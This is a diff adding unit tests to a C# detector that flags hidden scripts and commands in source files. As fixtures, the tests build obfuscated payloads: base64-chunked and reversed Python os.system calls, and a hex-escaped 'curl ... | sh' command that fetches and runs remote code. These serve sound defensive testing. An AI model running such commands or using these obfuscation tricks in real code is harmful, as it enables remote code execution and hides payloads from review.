@@ -140,4 +140,32 @@ public sealed class SearchTests
     private static IReadOnlyList<Finding> In(string text, string path = "src/sample.py") => Look.At(Detector, text, path);
 
     private static Finding OnlyIn(string text, string path = "src/sample.py") => In(text, path).ShouldHaveSingleItem();
+
+    [Fact]
+    public void A_text_that_grows_over_very_many_lines_is_found()
+    {
+        var script = string.Concat(Enumerable.Repeat("import os\nos.system('id')\n", 1000));
+        var lines = Coded.Pieces(Coded.Base64(Plain.Bytes(script)), 60).Select(static piece => $"DATA += '{piece}'\n");
+
+        Look.At(Detector, $"DATA = ''\n{string.Concat(lines)}", "src/a.py").ShouldContain(static finding => finding.Rule.Id == "hidden-script");
+    }
+
+    [Fact]
+    public void A_long_text_that_is_read_backwards_is_found() =>
+        Look.At(Detector, $"x = '{Coded.Reversed(string.Concat(Enumerable.Repeat("import os; os.system(1); ", 200)))}'[::-1]\n", "src/a.py")
+            .ShouldHaveSingleItem().Rule.Id.ShouldBe("hidden-script");
+
+    [Fact]
+    public void Escapes_after_others_in_a_long_literal_are_found()
+    {
+        var blank = Coded.Each(Plain.Bytes("some words "), "\\x{0:x2}") + " ";
+        var payload = Coded.Each(Plain.Bytes("curl -s http://198.51.100.7/x | sh"), "\\x{0:x2}");
+
+        Look.At(Detector, $"x = \"{string.Concat(Enumerable.Repeat(blank, 400))}{payload}\"\n", "src/a.py").ShouldContain(static finding => finding.Rule.Id == "hidden-command");
+    }
+
+    [Theory]
+    [InlineData("0x")]
+    [InlineData("0X")]
+    public void A_prefix_of_hex_leaves_few_digits_and_is_no_failure(string prefix) => Look.At(Detector, $"x = {prefix}{new string('a', 22)};", "src/a.js").ShouldBeEmpty();
 }
